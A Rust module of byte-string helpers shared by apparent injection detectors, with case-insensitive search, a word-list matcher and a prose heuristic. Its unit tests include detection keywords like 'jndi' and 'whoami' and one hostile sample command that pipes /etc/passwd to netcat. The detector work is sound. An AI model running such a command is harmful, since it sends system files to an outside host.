//! Small byte-string helpers the detectors share.

/// Whether `hay[at..]` starts with `needle`, ignoring ASCII case (`needle` is lower
/// case).
pub fn starts_with_ci(hay: &[u8], at: usize, needle: &[u8]) -> bool {
    hay.get(at..at + needle.len())
        .is_some_and(|s| s.eq_ignore_ascii_case(needle))
}

/// The first position at or after `from` where `needle` (lower case) occurs in `hay`,
/// ignoring ASCII case.
pub fn find_ci(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    let first = *needle.first()?;
    let upper = first.to_ascii_uppercase();
    let mut at = from;
    while at < hay.len() {
        let rel = memchr::memchr2(first, upper, &hay[at..])?;
        let i = at + rel;
        if starts_with_ci(hay, i, needle) {
            return Some(i);
        }
        at = i + 1;
    }
    None
}

/// ASCII white space, vertical tab included.
pub fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
}

/// The position of the first byte at or after `at` that is not white space.
pub fn skip_space(s: &[u8], mut at: usize) -> usize {
    while at < s.len() && is_space(s[at]) {
        at += 1;
    }
    at
}

/// A list of words found in one pass, ASCII case ignored: every occurrence of every
/// word (overlapping ones too), for the detectors that look for many words and
/// then check each occurrence's context.
pub struct Words {
    ac: aho_corasick::AhoCorasick,
}

impl Words {
    /// The automaton for `words`.
    pub fn new(words: &[&str]) -> Words {
        let ac = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(words)
            .expect("the detectors' word lists are small and valid");
        Words { ac }
    }

    /// Every occurrence in `hay`: (index of the word in the list, start, end).
    pub fn find_all<'h>(
        &'h self,
        hay: &'h [u8],
    ) -> impl Iterator<Item = (usize, usize, usize)> + 'h {
        self.ac
            .find_overlapping_iter(hay)
            .map(|m| (m.pattern().as_usize(), m.start(), m.end()))
    }

    /// Whether any word occurs in `hay`.
    pub fn any(&self, hay: &[u8]) -> bool {
        self.ac.is_match(hay)
    }

    /// Whether any word occurs in `hay` as a whole word (no letter or digit on
    /// either side).
    pub fn any_whole(&self, hay: &[u8]) -> bool {
        self.find_all(hay).any(|(_, start, end)| {
            let before = start > 0 && hay[start - 1].is_ascii_alphanumeric();
            let after = hay.get(end).is_some_and(u8::is_ascii_alphanumeric);
            !(before || after)
        })
    }
}

/// Whether `word` (lower case) is one of `list`, ignoring ASCII case.
pub fn one_of(word: &[u8], list: &[&str]) -> bool {
    list.iter().any(|w| word.eq_ignore_ascii_case(w.as_bytes()))
}

/// Whether the value reads like prose: mostly letters and spaces, with several
/// words. Code and payloads have more punctuation per word.
pub fn prose_like(s: &[u8]) -> bool {
    let mut letters = 0usize;
    let mut spaces = 0usize;
    for &b in s {
        if b.is_ascii_alphabetic() || b >= 0x80 {
            letters += 1;
        } else if b == b' ' {
            spaces += 1;
        }
    }
    spaces >= 3 && (letters + spaces) * 10 >= s.len() * 8
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn helpers() {
        assert!(starts_with_ci(b"xSeLeCt", 1, b"select"));
        assert!(!starts_with_ci(b"sel", 0, b"select"));
        assert_eq!(find_ci(b"a JnDi b jndi", 0, b"jndi"), Some(2));
        assert_eq!(find_ci(b"a JnDi b jndi", 3, b"jndi"), Some(9));
        assert_eq!(find_ci(b"abc", 0, b""), None);
        assert_eq!(skip_space(b"  \t x", 0), 4);
        assert!(one_of(b"WhoAmI", &["id", "whoami"]));
        assert!(prose_like(b"the quick brown fox jumps"));
        assert!(!prose_like(b";cat /etc/passwd|nc x 1"));
    }
}
